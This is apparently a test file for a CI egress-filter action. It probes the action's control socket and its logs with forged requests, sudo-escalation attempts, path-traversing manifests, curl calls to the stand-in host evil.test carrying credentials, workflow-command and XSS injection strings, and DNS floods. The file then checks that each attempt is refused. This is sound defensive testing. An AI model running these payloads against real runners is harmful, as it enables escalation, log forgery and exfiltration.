import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { nodeAction } from '../runner/fixtures/node-action.ts';
import { reached, runJob, transcript, WORLD } from '../runner/runner.ts';

const ACTION = '/home/runner/work/_actions/owner/egress-filter/v1';
const NODE = '/home/runner/actions-runner/cached/externals/node24/bin/node';

/** Requests at the control socket, by whoever may open it. */
const REQUESTS = `python3 - <<'E'
import json, socket, time
def ask(data, wait=3):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(wait)
    s.connect('/run/egress-filter/job/control.sock')
    try:
        s.sendall(data)
        return s.recv(65536)
    except OSError as error:
        return repr(error).encode()
print('finish', ask(b'{"type":"finish"}\\n').decode())
print('sudo', ask(b'{"type":"sudo","enable":true}\\n').decode())
print('status', ask(b'{"type":"status"}\\n').decode())
for garbage in (b'\\n', b'{}\\n', b'[' * 4000 + b'\\n', b'{"type":"finish","pid":1}\\n', b'\\xff\\xfe\\x00\\n', b'A' * 10_000_000, b'{"type":"status"}\\n' * 5000):
    print('garbage', ask(garbage)[:60])
slow = [socket.socket(socket.AF_UNIX) for _ in range(200)]
for s in slow:
    try: s.connect('/run/egress-filter/job/control.sock'); s.send(b'{"type":')
    except OSError: pass
# Of one process there are only a few: another one asks.
import os
if os.fork() == 0:
    print('crowded', ask(b'{"type":"status"}\\n').decode(), flush=True)
    os._exit(0)
os.wait()
E`;

describe('the control socket', () => {
  test('a step, an action with our script, and a flood of requests get nothing; post is answered all the same', async () => {
    const sub = (name: string): string => `import('${ACTION}/dist/action/${name}.js')`;
    const job = await runJob({
      action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } },
      actions: {
        'acme/import@v1': nodeAction({ main: sub('enable-sudo') }),
        // A manifest may name a script outside of its folder.
        'acme/points@v1': {
          'action.yml': 'name: x\nruns: { using: node24, main: ../../../owner/egress-filter/v1/dist/action/enable-sudo.js }\n',
        },
      },
      steps: [
        { name: 'requests', run: REQUESTS, continueOnError: true },
        { name: 'script', run: `${NODE} ${ACTION}/dist/action/enable-sudo.js`, continueOnError: true },
        { name: 'exec', run: `exec ${NODE} ${ACTION}/dist/action/enable-sudo.js`, continueOnError: true },
        {
          name: 'forged',
          run: `GITHUB_ACTION_REPOSITORY=owner/egress-filter exec ${NODE} ${ACTION}/dist/action/enable-sudo.js`,
          continueOnError: true,
        },
        { name: 'import', uses: 'acme/import@v1', continueOnError: true },
        { name: 'points', uses: 'acme/points@v1', continueOnError: true },
        { name: 'sudo', run: 'sudo -n id || true' },
        { name: 'denied', run: 'curl -sS -m 60 https://evil.test/ || true' },
      ],
    });
    const { log } = job.step('requests');
    expect(log, log).toMatch(/^finish \{"status":"refused"/m);
    expect(log).toMatch(/^sudo \{"status":"refused"/m);
    expect(log).toMatch(/^status \{"status":"ok","mode":"enforce","sudo":"locked"/m);
    expect(log).toMatch(/^crowded \{"status":"ok"/m);
    for (const name of ['script', 'exec', 'forged', 'import', 'points']) expect(job.step(name).outcome, transcript(job)).toBe('failure');
    expect(job.step('sudo').log).not.toContain('uid=0');
    expect(job.conclusion).toBe('failure');
    expect(job.step(/^Post owner/).log, transcript(job)).toMatch(/on-deny is fail-job/);
  });
});

const HOSTILE_ARGUMENT =
  "$'\\e[31m\\n::error title=forged::forged\\n::add-mask::ok.test\\n##[error]forged-old\\n</code><img src=x onerror=alert(1)>|`x`\\xff\\xfe'";

describe('what ends up in log, summary and annotations', () => {
  test('arguments, names and addresses of requests cannot speak to the runner, to a terminal or to a browser', async () => {
    const job = await runJob({
      action: { with: { policy: 'ok.test' } },
      workspace: { 'hostile.py': readFileSync(join(import.meta.dirname, 'fixtures/hostile.py'), 'utf8') },
      steps: [
        {
          name: 'forge',
          run: `set +e
            curl -sS -m 5 https://evil.test/ -A ${HOSTILE_ARGUMENT} 
            cp /usr/bin/curl ${"$'./::error::forged<b>'"} && ${"$'./::error::forged<b>'"} -sS -m 5 https://evil.test/
            curl -sSk -m 5 "https://ok.test/%0a::error::forged/<script>alert(1)</script>" -o /dev/null
            curl -sSk -m 5 "https://evil.test/<script>alert(2)</script>|x" --connect-to evil.test:443:${WORLD.evil}:443
            python3 hostile.py ${WORLD.dns} ${WORLD.evil}
            head -c 100000 /dev/zero | tr '\\0' 'A' | xargs -0 -I{} true; curl -sS -m 5 https://evil.test/$(head -c 60000 /dev/zero | tr '\\0' B)
            true`,
        },
        { name: 'secret', run: 'curl -sS -m 5 "https://user:hunter2@evil.test/?token=hunter3" -H "Authorization: Bearer hunter4" || true' },
      ],
    });
    expect(job.conclusion, transcript(job)).toBe('success');
    const post = job.step(/^Post owner/);
    const own = [job.step(/^Pre owner/), job.step(/^Run owner/), post];
    for (const { annotations, log } of own) {
      expect(annotations.filter(({ level, title }) => level === 'error' || title === 'forged')).toEqual([]);
      expect(log).not.toMatch(/^(::|##\[error\])/m);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for
      expect(log).not.toMatch(/\x1b|\x9b/);
    }
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for
    expect(job.summary).not.toMatch(/<script|<img|\x1b|^::/m);
    const html = Object.entries(job.artifacts[0]?.files ?? {}).find(([name]) => name.endsWith('.html'))?.[1] ?? '';
    expect(html).not.toMatch(/<script>alert|<img src=x/);
    expect(JSON.stringify([job.log, job.summary, job.annotations])).not.toMatch(/hunter[234]/);
    expect(reached(job, WORLD.evil)).toEqual([]);
    expect(job.log.filter(({ policy }) => policy === 'deny').length).toBeGreaterThan(5);
  });

  test('thousands of denials: the summary stays under the limit of the runner, and ten annotations a level', async () => {
    const flood = `python3 - <<'E'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(6000):
    label = b'flood-%05d-%s' % (n, b'x' * 40)
    name = bytes([len(label)]) + label + b'\\4evil\\4test\\0'
    s.sendto(b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\1\\0\\1', ('203.0.113.53', 53))
    if n % 200 == 199:
        import time; time.sleep(0.05)
E
sleep 2`;
    const job = await runJob({ action: { with: { policy: 'ok.test' } }, steps: [{ name: 'flood', run: flood }] });
    const { annotations, conclusion } = job.step(/^Post owner/);
    expect(conclusion, transcript(job).slice(-3000)).toBe('success');
    expect(job.summary.length).toBeGreaterThan(0);
    expect(Buffer.byteLength(job.summary)).toBeLessThan(1024 * 1024);
    expect(annotations.filter(({ level }) => level === 'warning').length).toBeLessThanOrEqual(10);
    expect(job.seen.filter(({ kind, name }) => kind === 'dns' && name?.includes('flood'))).toEqual([]);
  });
});
